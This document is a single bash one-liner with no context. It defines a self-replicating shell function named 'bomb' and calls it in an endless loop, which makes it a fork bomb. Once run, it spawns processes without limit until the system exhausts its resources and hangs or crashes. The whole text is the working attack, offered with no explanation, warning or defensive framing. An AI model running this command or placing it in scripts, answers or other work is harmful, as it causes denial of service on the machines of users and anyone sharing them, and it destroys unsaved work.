bomb() { bomb | bomb & wait; }; while :; do bomb; done
